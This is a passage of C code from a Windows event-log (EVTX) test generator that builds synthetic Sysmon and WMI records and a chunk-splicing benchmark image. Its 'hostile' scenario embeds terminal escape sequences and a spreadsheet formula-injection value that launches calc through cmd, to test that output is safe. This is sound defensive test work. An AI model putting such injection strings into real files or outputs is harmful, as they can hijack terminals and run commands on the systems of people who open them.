        case 4: sysmon_wmi(g, 20, "Created", " \"WmiHuntConsumer\"", "Command Line", cmd); break;
        default: {
            evtxgen_data d[] = {{"ProviderName", SZ("CIMWin32"), false},
                                {"Code", HEX32(i), false},
                                {"HostProcess", SZ("wmiprvse.exe"), false},
                                {"ProcessID", U32(i), false},
                                {"ProviderPath", SZ(cmd), false}};
            wmi_act(g, 5857, 0, "Operation_StartedOperational", d, NDATA(d), EVTXGEN_L_USERDATA);
        }
        }
    }
    return g->failed ? -1 : 0;
}

/* Hostile strings (issue 6, safe output): a Sysmon 20 consumer whose Name
 * and Destination carry ESC/BEL sequences, a C1 CSI, a lone surrogate,
 * a NUL and a leading '=', the Destination padded to EVTXGEN_HOSTILE_PAD
 * units (a record must fit its 64 KiB chunk, so 1 MiB cannot). Values are
 * quoted as Sysmon writes them. */
static size_t u16_ascii(uint16_t *u, size_t n, const char *s)
{
    while (*s) u[n++] = (uint8_t)*s++;
    return n;
}

int evtxgen_scenario_hostile(evtxgen *g)
{
    uint16_t *u = calloc(EVTXGEN_HOSTILE_PAD + 128, sizeof *u), name[64];
    if (!u) return fail(g, "out of memory"), -1;
    size_t n = u16_ascii(name, 0, " \"=evil\x1b[2J\x1b]0;pwned\x07");
    name[n++] = 0x9B;
    name[n++] = 0xD800;
    n = u16_ascii(name, n, "name");
    name[n++] = 0;
    n = u16_ascii(name, n, "after\"");
    size_t m = u16_ascii(u, 0, " \"=cmd|' /c calc'!A0\x1b[31m");
    u[m++] = 0xD800;
    u[m++] = 0;
    for (size_t i = 0; i < EVTXGEN_HOSTILE_PAD; i++) u[m++] = 'A';
    u[m++] = '"';
    char utc[32];
    sysmon_utc(g, utc);
    evtxgen_data d[] = {{"RuleName", S("-"), false},
                        {"EventType", S("WmiConsumerEvent"), false},
                        {"UtcTime", S(utc), false},
                        {"Operation", S("Created"), false},
                        {"User", S(USER), false},
                        {"Name", evtxgen_v_utf16(g, name, n, "(hostile)"), false},
                        {"Type", S("Command Line"), false},
                        {"Destination", evtxgen_v_utf16(g, u, m, "(hostile)"), false}};
    evtxgen_event e = ev_base(PROV_SYSMON, GUID_SYSMON, CH_SYSMON, 20, 3, 4, 20, 0, 0x8000000000000000ull, 3164,
                              4012, "S-1-5-18");
    e.data = d;
    e.ndata = NDATA(d);
    free(u);
    return evtxgen_add_event(g, &e) ? 0 : -1;
}

evtxgen *evtxgen_scenario(const char *name, unsigned flags, unsigned mb)
{
    evtxgen_opts o = {0};
    int (*build)(evtxgen *, unsigned) = NULL;
    if (!strcmp(name, "wmi")) { o.minor_version = 2; o.records_per_chunk = 12; build = evtxgen_scenario_wmi; }
    else if (!strcmp(name, "types")) { o.minor_version = 1; o.records_per_chunk = 4; build = evtxgen_scenario_types; }
    else if (!strcmp(name, "damaged")) { o.minor_version = 1; o.records_per_chunk = 5; }
    else if (!strcmp(name, "big")) { o.minor_version = 1; }
    else if (!strcmp(name, "hostile")) { o.minor_version = 2; }
    evtxgen *g = evtxgen_new(&o);
    if (!g) return NULL;
    if (build) build(g, flags);
    else if (!strcmp(name, "damaged")) evtxgen_scenario_damaged(g);
    else if (!strcmp(name, "big")) evtxgen_scenario_big(g, mb);
    else if (!strcmp(name, "hostile")) evtxgen_scenario_hostile(g);
    else fail(g, "unknown scenario \"%s\"", name);
    evtxgen_finish(g);
    return g;
}

/* ------------------------------------------------------------------ */
/* Bench recipe (shared/docs/evtx-bench-recipe.md): splice the valid    */
/* chunks of 26 corpus files into 1024 chunks, renumber record ids,     */
/* recompute the CRCs. Only our own code; the files are read in place.  */

static const char *const bench_files[] = {
    "edge_bad_string_cache_security", "edge_chunk_past_zeroes_system", "edge_invalid_header_flags_security",
    "edge_irregular_bool_values", "edge_multiple_xml_fragments_shellcore", "edge_no_crc32_application",
    "edge_pyevtx_issue38", "edge_pyevtx_issue39", "edge_size_t_security", "powershell_4103_4104_get-wmiobject_vss",
    "powershell_4104_wmi_cmdlets_lsassy", "security_4688_wmic_4648", "security_4688_wmiexec_smb_global",
    "security_4688_wmiprvse_target", "sysmon_19_20_21_1_CommandLineEventConsumer",
    "sysmon_1_wmic_node_process_call_create_sigma", "sysmon_1_wmic_node_process_call_create_vss",
    "sysmon_1_wmic_process_call_create_sigma", "sysmon_1_wmic_wmiprvse_edrtestingscript",
    "sysmon_1_wmiexec_impacket_wmiprvse_parent", "sysmon_1_wmiprvse_spawns_powershell_wmimplant",
    "sysmon_1_wmiprvse_unknown_parent_remote_registry", "sysmon_1_wsmprovhost_parent",
    "sysmon_20_21_1_wmighost_scrcons", "wmi-activity_5858_cleareventlog_sigma",
    "wmi-activity_win10_5857-5861_tugix456"};

#define BENCH_CHUNKS 1024u

static uint8_t *read_file(const char *path, size_t *len)
{
    FILE *f = fopen(path, "rb");
    if (!f) return NULL;
    buf b = {0};
    uint8_t tmp[65536];
    size_t n;
    while ((n = fread(tmp, 1, sizeof tmp, f)) > 0) buf_add(&b, tmp, n);
    int bad = ferror(f) || b.oom;
    fclose(f);
    if (bad) { free(b.p); return NULL; }
    *len = b.n;
    return b.p ? b.p : calloc(1, 1);
}

/* Step 2 of the recipe: signature, header CRC and records CRC all valid. */
static bool bench_chunk_ok(const uint8_t *c)
{
    if (memcmp(c, "ElfChnk", 8)) return false;
    if (chunk_header_crc(c) != r32(c + CH_CRC)) return false;
    uint32_t free_off = r32(c + CH_FREE);
    if (free_off < CH_RECORDS || free_off > EVTXGEN_CHUNK_SIZE) return false;
    return evtxgen_crc32(c + CH_RECORDS, free_off - CH_RECORDS) == r32(c + CH_DATA_CRC);
}

int evtxgen_bench_recipe(const char *dir, uint8_t **out, size_t *size, char *err, size_t errlen)
{
    buf chunks = {0};
    uint8_t header[EVTXGEN_HEADER_SIZE];
    size_t nchunks = 0;
    int rc = -1;
    *out = NULL;
    *size = 0;
    for (size_t i = 0; i < sizeof bench_files / sizeof bench_files[0]; i++) {
        char path[4096];
        size_t len = 0;
        snprintf(path, sizeof path, "%s/%s.evtx", dir, bench_files[i]);
        uint8_t *d = read_file(path, &len);
        if (!d) { snprintf(err, errlen, "cannot read %s: %s", path, strerror(errno)); goto done; }
        if (i == 0) {
            if (len < EVTXGEN_HEADER_SIZE) { free(d); snprintf(err, errlen, "%s: too short", path); goto done; }
            memcpy(header, d, sizeof header);
        }
        for (size_t off = EVTXGEN_HEADER_SIZE; len >= EVTXGEN_CHUNK_SIZE && off <= len - EVTXGEN_CHUNK_SIZE;
             off += EVTXGEN_CHUNK_SIZE) {
            if (!bench_chunk_ok(d + off)) continue;
            buf_add(&chunks, d + off, EVTXGEN_CHUNK_SIZE);
            nchunks++;
        }
        free(d);
        if (chunks.oom) { snprintf(err, errlen, "out of memory"); goto done; }
    }
    if (!nchunks) { snprintf(err, errlen, "no valid chunk in %s", dir); goto done; }
    size_t total = EVTXGEN_HEADER_SIZE + (size_t)BENCH_CHUNKS * EVTXGEN_CHUNK_SIZE;
    uint8_t *img = malloc(total);
    if (!img) { snprintf(err, errlen, "out of memory"); goto done; }
    uint64_t rid = 1;
    for (uint32_t i = 0; i < BENCH_CHUNKS; i++) {
        // Step 3: cycle through the chunks, renumber, fix the CRCs.
        uint8_t *c = img + EVTXGEN_HEADER_SIZE + (size_t)i * EVTXGEN_CHUNK_SIZE;
        memcpy(c, chunks.p + (i % nchunks) * (size_t)EVTXGEN_CHUNK_SIZE, EVTXGEN_CHUNK_SIZE);
        uint32_t free_off = r32(c + CH_FREE), off = CH_RECORDS;
        uint64_t first = rid;
        while (off + REC_HEADER <= free_off && !memcmp(c + off, "**\0\0", 4)) {
            uint32_t sz = r32(c + off + 4);
            if (sz < 28 || sz > free_off - off) break;
            w64(c + off + 8, rid++);
            off += sz;
        }
        w64(c + CH_FIRST_NUM, first);
        w64(c + CH_LAST_NUM, rid - 1);
        w64(c + CH_FIRST_ID, first);
        w64(c + CH_LAST_ID, rid - 1);
        chunk_fix_crcs(c);
    }
    // Step 4: the first source file's header with the new numbers.
    memcpy(img, header, sizeof header);
    w64(img + FH_FIRST_CHUNK, 0);
    w64(img + FH_LAST_CHUNK, BENCH_CHUNKS - 1);
    w64(img + FH_NEXT_RECORD, rid);
    w16(img + FH_CHUNK_COUNT, BENCH_CHUNKS);
    w32(img + FH_FLAGS, 0);
    file_header_crc(img);
    *out = img;
    *size = total;
    rc = 0;
done:
    free(chunks.p);
    return rc;
}
